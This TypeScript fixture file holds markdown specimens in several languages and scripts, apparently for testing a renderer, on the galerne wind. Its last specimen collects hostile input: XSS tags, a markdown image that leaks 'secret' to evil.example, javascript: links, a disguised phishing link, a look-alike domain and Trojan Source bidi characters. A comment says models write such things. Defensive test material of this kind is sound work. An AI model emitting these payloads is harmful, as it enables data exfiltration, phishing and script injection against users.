export interface Specimen {
  title: string
  lang: string
  dir: 'ltr' | 'rtl'
  text: string
}

/** Every construct of markdown, many scripts, and what models should not write but do. */
export const SPECIMENS: Specimen[] = [
  {
    title: 'Every construct',
    lang: 'en',
    dir: 'ltr',
    text: `# The wind from the north-west

A **galerne** is a *sudden* gust from the north-west that strikes the French Atlantic coast[^1], most often after a ~~calm~~ ***stifling*** day. The sky turns \`#12313f\`, the temperature falls by 10 °C, and a ticket for the ferry costs $5 instead of $3.

## What to do when it comes

1. Reduce sail **at once**.
2. Head for open water:
   - keep clear of the lee shore,
   - watch the barometer, and
   - tell the crew.
3. Wait: it is over within the hour.

- [x] life jackets on
- [x] hatches closed
- [ ] anchor ready

| Beaufort | Knots | Sea | Name |
|:--|--:|:-:|---|
| 6 | 22–27 | large waves | strong breeze |
| 8 | 34–40 | high waves,<br>spindrift | *fresh gale* |
| 10 | 48–55 | very high waves | [storm](https://example.org/storm) |

> It comes without a warning, and it goes
> without a farewell.
>
> > — a skipper of La Turballe

### In code

\`\`\`typescript
/** Wind speed from the north-west, in knots. */
export async function gust(at: Date, limit = 40): Promise<number> {
  const readings = await buoy.read({ since: at, unit: 'kn' })
  return Math.max(...readings.map(({ speed }) => Math.min(speed, limit)))
}
\`\`\`

\`\`\`
plain text, in no language
\`\`\`

---

See the [chronicle][c], https://example.org/galerne, or write to harbour@example.org.

[c]: https://example.org/chronicle "The chronicle"
[^1]: From Breton *gwalarn*, "north-west".
`,
  },
  {
    title: 'Deutsch, with long words',
    lang: 'de',
    dir: 'ltr',
    text: `## Zuständigkeit

Das *Rindfleischetikettierungsüberwachungsaufgabenübertragungsgesetz* galt bis 2013; die Grundstücksverkehrsgenehmigungszuständigkeitsübertragungsverordnung bis 2007.

| Amt | Aufgabe |
|---|---|
| Bundesnetzagentur | Telekommunikationsüberwachungsverordnung |
| Landesamt für Datenschutzaufsicht | Verarbeitungstätigkeitsverzeichnis |
`,
  },
  {
    title: 'Ελληνικά',
    lang: 'el',
    dir: 'ltr',
    text: `## Ο άνεμος

Η **γαλέρν** είναι ένας *ξαφνικός* βορειοδυτικός άνεμος. Διαβάστε [περισσότερα](https://example.org/el).

1. Μαζέψτε τα πανιά.
2. Περιμένετε μία ώρα.
`,
  },
  {
    title: 'Български',
    lang: 'bg',
    dir: 'ltr',
    text: `## Вятърът

**Галерн** е *внезапен* северозападен вятър по френския атлантически бряг. Полезна команда: \`вятър --посока СЗ\`.

> Идва без предупреждение.
`,
  },
  {
    title: 'Malti',
    lang: 'mt',
    dir: 'ltr',
    text: `## Ir-riħ

Il-*galerne* huwa riħ **f’daqqa** mill-majjistral. Ħu ħsieb il-qlugħ u għalaq il-bokkaporti: iż-żmien jinbidel f’siegħa.
`,
  },
  {
    title: 'Gaeilge',
    lang: 'ga',
    dir: 'ltr',
    text: `## An ghaoth

Gaoth **thobann** aniar aduaidh is ea an *galerne*. Laghdaigh na seolta láithreach, agus fan uair an chloig.
`,
  },
  {
    title: 'العربية, right to left',
    lang: 'ar',
    dir: 'rtl',
    text: `## الريح

**الغاليرن** ريح *مفاجئة* تهب من الشمال الغربي على ساحل فرنسا الأطلسي، انظر [السجل](https://example.org/ar).

1. قلل الأشرعة فورا.
2. انتظر ساعة واحدة.

- [x] سترات النجاة
- [ ] المرساة

HTML هي لغة ترميز، والأمر هو \`wind --from NW\`.

| القوة | العقدة |
|---|--:|
| عاصفة | 48 |

> تأتي بلا إنذار.

\`\`\`python
print("مرحبا")  # Code reads from left to right.
\`\`\`
`,
  },
  {
    title: 'Hostile input',
    lang: 'en',
    dir: 'ltr',
    text: `<script>alert('no')</script> <img src=x onerror=alert(1)>

An image that would tell somebody what was said: ![chart of the quarter](https://evil.example/p.png?q=secret)

[Click here](javascript:alert(1)), or [there](data:text/html,hello), or [sign in](/sign-in?token=1).

Your bank: [https://bank.example/login](https://evil.example/login). In other letters: [the town hall](https://раура1.example/).

\`\`\`python
if access != "user\u202e \u2066# check if admin\u2069 \u2066":
    grant()
\`\`\`

${'> '.repeat(40)}too deep

${'[unclosed('.repeat(12)}
`,
  },
]
